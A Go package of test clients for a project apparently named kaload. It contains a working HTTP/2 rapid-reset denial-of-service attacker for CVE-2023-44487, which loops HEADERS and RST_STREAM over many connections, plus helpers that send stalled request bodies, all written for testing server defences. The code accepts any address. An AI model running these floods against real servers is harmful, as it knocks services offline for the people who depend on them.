// Package abuse holds hostile HTTP clients for kaload's server tests and its
// abuse bench: an HTTP/2 rapid-reset attacker (CVE-2023-44487: HEADERS then
// RST_STREAM in a loop) and requests whose body stalls. Every loop is bounded
// in count and time; they are meant for loopback servers only.
package abuse

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2Conn is a cleartext HTTP/2 connection (prior knowledge) driven frame by
// frame. Its writes are not safe for concurrent use; a background reader
// answers SETTINGS and PING and notes GOAWAY.
type H2Conn struct {
	c    net.Conn
	fr   *http2.Framer
	hbuf bytes.Buffer
	enc  *hpack.Encoder
	next uint32 // next client stream id

	mu     sync.Mutex
	goAway *http2.GoAwayFrame
	ended  chan struct{} // closed when the reader stopped (the server closed)
	endErr error
	frames map[uint32][]http2.Frame // per stream, what the server sent (Keep)
	keep   bool
	pong   chan struct{} // a PING ack arrived
}

// DialH2C dials addr and speaks the HTTP/2 preface. keep records every
// frame the server sends, per stream (for tests that read answers).
func DialH2C(ctx context.Context, addr string, keep bool) (*H2Conn, error) {
	return DialH2(ctx, addr, nil, keep)
}

// DialH2 is DialH2C over TLS when tc is not nil (ALPN h2 is added).
func DialH2(ctx context.Context, addr string, tc *tls.Config, keep bool) (*H2Conn, error) {
	var d net.Dialer
	var c net.Conn
	var err error
	if tc != nil {
		tc = tc.Clone()
		tc.NextProtos = []string{"h2"}
		c, err = (&tls.Dialer{NetDialer: &d, Config: tc}).DialContext(ctx, "tcp", addr)
		if err == nil && c.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
			c.Close()
			return nil, fmt.Errorf("%s did not negotiate h2", addr)
		}
	} else {
		c, err = d.DialContext(ctx, "tcp", addr)
	}
	if err != nil {
		return nil, err
	}
	return WrapH2C(c, keep)
}

// WrapH2C speaks the HTTP/2 preface on c, already connected, and takes it
// over.
func WrapH2C(c net.Conn, keep bool) (*H2Conn, error) {
	h := &H2Conn{c: c, next: 1, ended: make(chan struct{}), frames: map[uint32][]http2.Frame{}, keep: keep, pong: make(chan struct{}, 1)}
	h.fr = http2.NewFramer(c, c)
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.enc = hpack.NewEncoder(&h.hbuf)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	go h.read()
	return h, nil
}

// read consumes the server's frames until the connection ends. Control
// frames it answers are written under the caller's feet only as
// SETTINGS/PING acks, which the server tolerates in any order.
func (h *H2Conn) read() {
	defer close(h.ended)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			h.mu.Lock()
			h.endErr = err
			h.mu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			h.mu.Lock()
			g := *f
			h.goAway = &g
			h.mu.Unlock()
		case *http2.PingFrame:
			if f.IsAck() {
				select {
				case h.pong <- struct{}{}:
				default:
				}
			}
		case *http2.SettingsFrame:
			// Acks are not needed for what these clients do; the server
			// does not insist within a test's lifetime.
		default:
			if h.keep {
				h.mu.Lock()
				h.frames[f.Header().StreamID] = append(h.frames[f.Header().StreamID], f)
				h.mu.Unlock()
			}
		}
	}
}

// Headers opens the next stream with a request and returns its id.
func (h *H2Conn) Headers(method, path string, endStream bool, extra ...hpack.HeaderField) (uint32, error) {
	id := h.next
	h.next += 2
	h.hbuf.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "kaload"}, {Name: ":path", Value: path},
	}, extra...) {
		h.enc.WriteField(f)
	}
	return id, h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hbuf.Bytes(), EndStream: endStream, EndHeaders: true})
}

// Data sends body bytes on stream id.
func (h *H2Conn) Data(id uint32, b []byte, end bool) error { return h.fr.WriteData(id, end, b) }

// Reset cancels stream id.
func (h *H2Conn) Reset(id uint32) error { return h.fr.WriteRSTStream(id, http2.ErrCodeCancel) }

// Sync sends a PING and waits up to d for its ack: the server then has
// processed every frame written before. False when no ack came.
func (h *H2Conn) Sync(d time.Duration) bool {
	if err := h.fr.WritePing(false, [8]byte{'k', 'a', 'l', 'o', 'a', 'd'}); err != nil {
		return false
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-h.pong:
		return true
	case <-h.ended:
	case <-t.C:
	}
	return false
}

// Ended is closed once the server closed the connection.
func (h *H2Conn) Ended() <-chan struct{} { return h.ended }

// GoAway returns the GOAWAY the server sent, if any.
func (h *H2Conn) GoAway() *http2.GoAwayFrame {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.goAway
}

// Status returns the :status the server answered on stream id, "" if none yet.
func (h *H2Conn) Status(id uint32) string {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, f := range h.frames[id] {
		if m, ok := f.(*http2.MetaHeadersFrame); ok {
			return m.PseudoValue("status")
		}
	}
	return ""
}

// Close closes the connection and waits for the reader.
func (h *H2Conn) Close() error {
	err := h.c.Close()
	<-h.ended
	return err
}

// RapidReset is the outcome of one attack.
type RapidReset struct {
	Streams     int            // HEADERS+RST_STREAM pairs written
	Conns       int            // connections opened
	MaxPerConn  int            // most pairs one connection carried before the server ended it
	ClosedConns int            // connections the server ended (GOAWAY or close) during the attack
	GoAways     map[string]int // GOAWAY error codes seen
	Elapsed     time.Duration
}

// RapidResetAttack opens HTTP/2 connections to addr one after another and
// on each writes HEADERS (GET path) then RST_STREAM(CANCEL) in a loop, in
// batches, until maxStreams pairs were written in all, maxConns connections
// were used, maxDur passed or ctx ended. A connection the server ends is
// replaced by a new one.
func RapidResetAttack(ctx context.Context, addr, path string, maxStreams, maxConns int, maxDur time.Duration) (RapidReset, error) {
	return RapidResetAttackTLS(ctx, addr, nil, path, maxStreams, maxConns, maxDur)
}

// RapidResetAttackTLS is RapidResetAttack over TLS when tc is not nil.
func RapidResetAttackTLS(ctx context.Context, addr string, tc *tls.Config, path string, maxStreams, maxConns int, maxDur time.Duration) (RapidReset, error) {
	const batch = 50
	res := RapidReset{GoAways: map[string]int{}}
	start := time.Now()
	deadline := start.Add(maxDur)
	for res.Conns < maxConns && res.Streams < maxStreams && time.Now().Before(deadline) && ctx.Err() == nil {
		dctx, cancel := context.WithDeadline(ctx, deadline)
		h, err := DialH2(dctx, addr, tc, false)
		cancel()
		if err != nil {
			if res.Conns == 0 {
				return res, fmt.Errorf("dial %s: %w", addr, err)
			}
			break
		}
		res.Conns++
		h.c.SetWriteDeadline(deadline)
		n, closed := 0, false
	conn:
		for res.Streams < maxStreams && time.Now().Before(deadline) && ctx.Err() == nil {
			select {
			case <-h.Ended():
				closed = true
				break conn
			default:
			}
			if h.GoAway() != nil {
				closed = true
				break
			}
			for range batch {
				id, err := h.Headers("GET", path, true)
				if err == nil {
					err = h.Reset(id)
				}
				if err != nil {
					closed = true
					break conn
				}
				n++
				res.Streams++
			}
		}
		if !closed {
			// Let the server process what was written before closing:
			// closing over unread data would reset the connection and
			// drop frames the server had not read yet.
			closed = !h.Sync(2 * time.Second)
		}
		if g := h.GoAway(); g != nil {
			res.GoAways[g.ErrCode.String()]++
		}
		h.Close()
		if closed {
			res.ClosedConns++
		}
		res.MaxPerConn = max(res.MaxPerConn, n)
	}
	res.Elapsed = time.Since(start)
	return res, nil
}

// StalledBody is the start of an HTTP/1.1 request whose body never
// completes: Content-Length 100 with 10 bytes sent, or a chunked body with
// one chunk and no end.
func StalledBody(chunked bool) string {
	if chunked {
		return "POST / HTTP/1.1\r\nHost: kaload\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n"
	}
	return "POST / HTTP/1.1\r\nHost: kaload\r\nContent-Length: 100\r\n\r\n" + string(bytes.Repeat([]byte("x"), 10))
}

// StallH2Body opens a stream on h with a POST announcing 100 bytes, sends 10
// and stops.
func StallH2Body(h *H2Conn) (uint32, error) {
	id, err := h.Headers("POST", "/", false, hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(100)})
	if err != nil {
		return 0, err
	}
	return id, h.Data(id, bytes.Repeat([]byte("x"), 10), false)
}
